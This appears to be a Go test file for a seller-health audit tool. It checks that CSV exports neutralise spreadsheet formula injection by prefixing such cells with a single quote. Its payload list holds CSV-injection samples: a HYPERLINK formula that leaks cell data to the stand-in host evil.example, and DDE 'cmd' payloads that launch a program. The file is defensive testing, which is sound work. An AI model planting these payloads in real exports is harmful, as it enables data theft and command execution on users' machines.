package render_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/sellerhealth/audit/internal/health"
	"github.com/sellerhealth/audit/internal/metrics"
	"github.com/sellerhealth/audit/internal/render"
	"github.com/sellerhealth/audit/internal/safetext"
)

// Formula payloads as a spreadsheet would run them: each starts with one
// of the characters that make a cell a formula (OWASP, "CSV Injection").
var csvFormulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"  =1+1", // a spreadsheet may trim the blanks
}

// csvEscaped is how a text cell holding s must come back from the file: a
// single quote first, so that the spreadsheet reads it as text (and its
// line breaks as LF, safetext.Text).
func csvEscaped(s string) string { return "'" + safetext.Text(s) }

// Text from the files (order ids, stores, reasons, statuses, account
// names, errors) that starts like a formula is written with a leading
// single quote in every CSV document; the numbers audit writes itself,
// negative ones included, stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	for _, payload := range csvFormulas {
		t.Run(strings.TrimSpace(payload)[:2], func(t *testing.T) {
			negative := -0.0074
			r := detOdrReport()
			r.Marketplace = payload
			item := detAfnDefect
			item.OrderID = payload
			item.Events = []metrics.Event{{Type: "a_to_z_claim", Date: detDay("2026-11-03"), Status: payload}}
			r.Metrics[0].Items = []metrics.Item{item}
			r.Metrics[0].Marketplace = payload
			r.Metrics[0].Amazon = &health.Amazon{Rate: &negative, Status: payload}
			r.Metrics = append(r.Metrics, health.Verdict{Result: metrics.Missing("on_time_delivery_rate", payload), Status: health.NotComputed})
			r.Account = []health.AccountCheck{{Store: payload, Kind: "policy", Key: payload, Value: payload, Count: detIntPtr(1),
				Status: health.Fail, Reason: payload}}

			recs := csvRecords(t, renderCSV(t, r, render.Options{}))
			entry := csvRow(recs[0], recs[1])
			checkRow(t, "entry", entry, map[string]string{"marketplace": csvEscaped(payload), "amazon_status": csvEscaped(payload),
				"amazon_value": "-0.0074", "metric": "odr", "value": "0.008695652173913044"})
			checkRow(t, "not computed", csvRow(recs[0], recs[4]), map[string]string{"reason": csvEscaped(payload)})
			checkRow(t, "account check", csvRow(recs[0], recs[5]), map[string]string{"name": csvEscaped(payload),
				"marketplace": csvEscaped(payload), "reason": csvEscaped(payload), "amazon_status": csvEscaped(payload), "value": "1"})

			recs = csvRecords(t, renderCSV(t, r, render.Options{Details: true}))
			checkRow(t, "event", csvRow(recs[0], recs[1]), map[string]string{"order_id": csvEscaped(payload),
				"marketplace": csvEscaped(payload), "defect_status": csvEscaped(payload), "defect": "a_to_z_claim"})

			f := &health.Fleet{Command: "odr", AsOf: r.AsOf, Accounts: []health.Account{{Name: payload, Report: r}, {Name: payload, Error: payload}}}
			for _, o := range []render.Options{{}, {Details: true}} {
				recs := renderCSVFleet(t, f, o)
				first, broken := csvRow(recs[0], recs[1]), csvRow(recs[0], recs[len(recs)-1])
				checkRow(t, "fleet", first, map[string]string{"account": csvEscaped(payload), "marketplace": csvEscaped(payload)})
				key := "reason"
				if o.Details {
					key = "error"
				}
				checkRow(t, "fleet, broken account", broken, map[string]string{"account": csvEscaped(payload), key: csvEscaped(payload)})
			}

			tr := &health.Trend{Command: "odr", From: r.AsOf, To: r.AsOf, Series: []health.Series{{ID: "odr", Marketplace: payload,
				Threshold: detOdrTarget, Points: []health.Point{{AsOf: r.AsOf, Numerator: 1, Denominator: 100, Status: health.Warn}}}}}
			var b bytes.Buffer
			if err := render.TrendCSV(&b, tr, render.Options{}); err != nil {
				t.Fatal(err)
			}
			recs = csvRecords(t, b.String())
			checkRow(t, "trend", csvRow(recs[0], recs[1]), map[string]string{"marketplace": csvEscaped(payload), "value": "0.01"})
		})
	}
}

// Text that only looks like a formula further in, or a plain negative
// number that came from a file, is left as it is only where it cannot be
// run: a cell that does not start with a trigger is never changed.
func TestCSVPlainTextUnchanged(t *testing.T) {
	r := detOdrReport()
	for _, s := range []string{"114-0000001-0000001", "a=b", "x+1", "mail@example.com", "O'Brien", ""} {
		r.Metrics[0].Items[0].OrderID = s
		recs := csvRecords(t, renderCSV(t, r, render.Options{Details: true}))
		if got := csvRow(recs[0], recs[1])["order_id"]; got != s {
			t.Errorf("order id %q written as %q", s, got)
		}
	}
}
